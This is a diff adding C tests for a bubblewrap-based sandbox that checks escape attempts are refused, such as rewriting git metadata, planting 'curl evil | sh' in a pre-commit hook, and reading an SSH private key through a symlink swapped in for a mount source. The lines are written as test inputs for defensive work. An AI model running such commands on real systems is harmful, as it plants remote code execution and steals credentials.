@@ -859,3 +859,114 @@ Test(escape, device_nodes_work_only_in_dev_mounts)
 		t.home, t.home);
 	expect(in_cell(script), 0, "refused\nwritten\n");
 }
+
+Test(escape, git_metadata_cannot_be_redirected)
+{
+	/* renaming .git away from its read-only parts, or pointing it at a git dir of our own */
+	expect(in_cell("mv .git .git.old 2>/dev/null || echo refused; "
+		       "echo ../evil > .git/commondir 2>/dev/null || echo refused; "
+		       "mkdir -p .git/modules/x 2>/dev/null || echo refused"),
+	       0, "refused\nrefused\nrefused\n");
+	cr_assert(host_has("proj/.git/config"));
+	cr_assert(not(host_has("proj/.git/commondir")));
+}
+
+Test(escape, a_worktree_git_file_stays_put)
+{
+	char *git = th_join(t.proj, ".git");
+
+	th_rm_rf(git);
+	free(th_write(t.proj, ".git", "gitdir: /somewhere/else/.git/worktrees/proj\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	expect(in_cell("echo 'gitdir: evilgit' > .git"), 2, "");
+	{
+		char *s = host_read("proj/.git");
+
+		cr_assert(eq(str, s, "gitdir: /somewhere/else/.git/worktrees/proj\n"));
+		free(s);
+	}
+	free(git);
+}
+
+Test(escape, hooks_path_in_the_project_is_read_only)
+{
+	free(th_write(t.proj, ".git/config", "[core]\n\thooksPath = .husky\n"));
+	free(th_write(t.proj, ".husky/pre-commit", "npm test\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
+	expect(in_cell("echo 'curl evil | sh' >> .husky/pre-commit"), 2, "");
+}
+
+Test(escape, writable_git_when_asked_still_protects_hooks_and_config)
+{
+	set_config("{\"hardening\": {\"git_writable\": true}}");
+	expect(in_cell("echo ref > .git/ORIG_HEAD && echo written; "
+		       "mv .git .git.old 2>/dev/null || echo refused; "
+		       "echo x >> .git/config 2>/dev/null || echo refused; "
+		       "echo x > .git/hooks/pre-commit 2>/dev/null || echo refused"),
+	       0, "written\nrefused\nrefused\nrefused\n");
+}
+
+Test(escape, a_symlinked_protected_path_stops_the_cell)
+{
+	char *envrc = th_join(t.proj, ".envrc");
+	struct th_result r;
+
+	free(th_write(t.proj, "tools/envrc", "use nix\n"));
+	cr_assert(eq(int, symlink("tools/envrc", envrc), 0));
+	th_chown_r(t.proj, t.uid, t.gid);
+	r = in_cell("echo ran > ran");
+	cr_assert(eq(int, r.status, 2), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, ".envrc' is a symbolic link"), NULL)), "%s", r.err);
+	cr_assert(not(host_has("proj/ran")));
+	th_result_done(&r);
+	free(envrc);
+}
+
+Test(escape, a_mount_source_turned_into_a_link_out_is_refused)
+{
+	char json[512], script[256];
+	struct th_result r;
+
+	free(th_write(t.proj, "cache/keep", "x"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	snprintf(json, sizeof(json),
+		 "{\"mounts\": [{\"path\": \"./cache\", \"dest\": \"%s/c2\", \"mode\": \"rw\"}]}",
+		 t.home);
+	set_config(json);
+	/* the first cell swaps its own mount source for a link to the real home */
+	snprintf(script, sizeof(script), "rm -rf cache && ln -s %s cache && echo swapped", t.home);
+	expect(in_cell(script), 0, "swapped\n");
+	r = in_cell("cat c2/.ssh/id_ed25519");
+	cr_assert(eq(int, r.status, 2), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, "now leads outside the project"), NULL)), "%s", r.err);
+	cr_assert(eq(str, r.out, ""));
+	th_result_done(&r);
+}
+
+Test(escape, a_bwrap_failure_is_not_the_commands_exit_status)
+{
+	struct th_result r;
+
+	set_config("{\"mounts\": [{\"path\": \"/etc/hostname\", \"dest\": \"/usr/new/file\"}]}");
+	r = in_cell("echo ran > ran");
+	cr_assert(eq(int, r.status, 125), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, "cell: bubblewrap could not build the cell"), NULL)),
+		  "%s", r.err);
+	cr_assert(not(host_has("proj/ran")));
+	th_result_done(&r);
+}
+
+Test(escape, a_signal_before_the_cell_is_up_still_reaches_the_command)
+{
+	char *argv[] = {(char *)CELL,	      (char *)"run", (char *)"--",
+			(char *)"/bin/sleep", (char *)"5",   NULL};
+	pid_t pid = th_spawn_as(t.uid, t.gid, t.proj, argv, t.env);
+	int status;
+
+	usleep(2000);
+	kill(pid, SIGTERM);
+	waitpid(pid, &status, 0);
+	/* sleep died of the forwarded SIGTERM: 143, and long before its 5 seconds */
+	cr_assert(eq(int, WIFEXITED(status) ? WEXITSTATUS(status) : -1, 143));
+}
